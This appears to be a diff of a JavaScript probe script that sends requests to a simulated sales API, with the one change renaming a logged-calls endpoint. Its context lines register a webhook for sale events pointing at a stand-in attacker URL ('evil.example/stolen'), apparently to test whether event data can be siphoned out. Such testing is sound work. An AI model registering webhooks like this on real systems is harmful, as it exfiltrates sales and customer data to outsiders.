@@ -21,7 +21,7 @@ const webhook = {event: "SaleCreated", url: "http://evil.example/stolen"};
 const tries = [
   ["POST", "/api/Webhooks", webhook], ["POST", "/_sim/trigger", {event: "SaleCreated"}], ["POST", "/_sim/reset", {}],
   ["POST", "/_sim/page/verify/runs", {receiver: "http://127.0.0.1:1", effects: {url: "http://127.0.0.1:1"}}],
-  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"], ["GET", "/_sim/page/events"], ["GET", "/_sim/page/calls"],
+  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"], ["GET", "/_sim/page/events"], ["GET", "/_sim/calls"],
   ["GET", "/_sim/page/verify/runs"],
 ];
 (async () => {
